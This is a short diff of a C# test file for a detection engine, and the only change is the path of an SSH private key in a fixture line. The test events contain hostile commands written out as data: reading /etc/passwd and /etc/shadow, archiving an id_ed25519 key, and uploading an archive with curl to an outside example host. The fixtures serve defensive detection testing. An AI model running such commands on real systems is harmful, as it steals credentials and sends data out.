@@ -145,7 +145,7 @@ public sealed class DetectionsTests
         Started("/bin/bash", "bash -c 'id; uname -a; cat /etc/passwd'", "pay-1", "batch", "/usr/sbin/sshd"),
         Started("/usr/bin/cat", "cat /etc/shadow", "pay-1", "batch", "/bin/bash"),
         Started("/usr/bin/curl", "curl -T /tmp/day.tgz https://files.example.net/", "pay-1", "batch", "/bin/bash"),
-        Started("/usr/bin/tar", "tar cf - /home/ops/.ssh/id_ed25519", "jump-2", "ops", "/bin/sh"),
+        Started("/usr/bin/tar", "tar cf - /srv/ops/.ssh/id_ed25519", "jump-2", "ops", "/bin/sh"),
         Started("/bin/sh", "sh -c /opt/yagura/update", "core-3", "yagura", "/opt/yagura/yagura-agent"),
         new JsonObject
         {
